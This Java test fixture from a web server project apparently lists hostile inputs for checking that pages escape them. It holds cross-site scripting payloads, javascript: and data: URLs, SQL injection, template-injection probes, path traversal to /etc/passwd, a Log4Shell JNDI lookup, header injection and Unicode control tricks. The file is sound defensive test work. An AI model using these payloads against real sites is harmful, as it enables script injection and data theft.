package de.landbruecke.server.pages;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/** Texts that try to become more than text. */
final class HostileTexts {

  private static final List<String> WAYS_OUT =
      List.of(
          "",
          "\">",
          "'>",
          "\" ",
          "' ",
          "`",
          "-->",
          "]]>",
          "</title>",
          "</script>",
          "</textarea></select></option>",
          "</mark></a></h2></li></ol></main>");

  private static final List<String> MARKUP =
      List.of(
          "<script>alert(1)</script>",
          "<SCRIPT SRC=//example.org/x.js></SCRIPT>",
          "<img src=x onerror=alert(1)>",
          "<svg/onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
          "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
          "<a href=\"javascript:alert(1)\">x</a>",
          "<a href=https://example.org target=_blank onclick=alert(1)>x</a>",
          "<form action=https://example.org><input name=q></form>",
          "<base href=https://example.org/>",
          "<meta http-equiv=refresh content=\"0;url=https://example.org\">",
          "<link rel=stylesheet href=//example.org/x.css>",
          "<style>*{display:none}</style>",
          "<h1>zweite</h1><title>x</title><main id=inhalt>",
          "<div id=\"inhalt\" style=\"position:fixed\" role=status>",
          "onmouseover=alert(1) autofocus onfocus=alert(1) x=\"");

  private static final List<String> ADDRESSES =
      List.of(
          "javascript:alert(1)",
          "JaVaScRiPt:alert(1)",
          " javascript:alert(1)",
          "java\tscript:alert(1)",
          "java\nscript:alert(1)",
          "\u0001javascript:alert(1)",
          "javascript&colon;alert(1)",
          "&#106;avascript:alert(1)",
          "javascript://example.org/%0aalert(1)",
          "data:text/html,<script>alert(1)</script>",
          "DATA:text/html;base64,PHNjcmlwdD4=",
          "vbscript:msgbox(1)",
          "VBScript:MsgBox(1)",
          "view-source:javascript:alert(1)",
          "//example.org/x",
          "\\\\example.org\\x",
          "/\\example.org",
          "https://user:pass@example.org",
          "https:example.org",
          "file:///etc/passwd");

  private static final List<String> SIGNS =
      List.of(
          "\u202ednuh",
          "\u2066a\u2069\u2067b",
          "a\u200fb\u200ec",
          "\u061c\ufeff",
          "a\u0000b",
          "a\u0008\u001b[31mb",
          "\u007f\u0085\u009f",
          "\ud800",
          "\udfff\ud800",
          "a\r\nSet-Cookie: x=1",
          "a\u2028b\u2029c",
          "&#8238;dnuh",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&amp;lt;script&amp;gt;",
          "&#60;script&#62;alert(1)",
          "%3Cscript%3Ealert(1)%3C/script%3E",
          "+ADw-script+AD4-alert(1)",
          "<\u0000script>alert(1)</script>",
          "\u00bcscript\u00bealert(1)",
          "Z\u0351\u036b\u0343A\u0300L\u0301G\u0302O\u0303");

  private static final List<String> TEMPLATES =
      List.of(
          "${7*7}",
          "$unsafe{model}",
          "@if(true)x@endif",
          "@template.web.layout()",
          "!{var x = 1;}",
          "<%-- x --%>",
          "{{7*7}}",
          "{% x %}",
          "#{T(java.lang.Runtime)}",
          "@`x`",
          "\\u003cscript\\u003e",
          "\\\"};alert(1);//",
          "{\"@type\":\"x\"}",
          "*/alert(1)/*",
          "null",
          "' OR 1=1 --",
          "(((((((((((a",
          "%s%n%x",
          "../../etc/passwd",
          "${jndi:ldap://example.org/x}");

  private HostileTexts() {}

  /** All of them, each once; none is blank. */
  static List<String> all() {
    Set<String> texts = new LinkedHashSet<>();
    for (String out : WAYS_OUT) {
      for (String markup : MARKUP) {
        texts.add(out + markup);
      }
    }
    texts.addAll(ADDRESSES);
    texts.addAll(SIGNS);
    texts.addAll(TEMPLATES);
    // A megabyte of one word, of many, and of markup.
    texts.add("M".repeat(1 << 20));
    texts.add("Wort ".repeat(200_000));
    texts.add("<b><i>".repeat(170_000));
    texts.add("<script>".repeat(130_000) + "alert(1)");
    return new ArrayList<>(texts);
  }
}
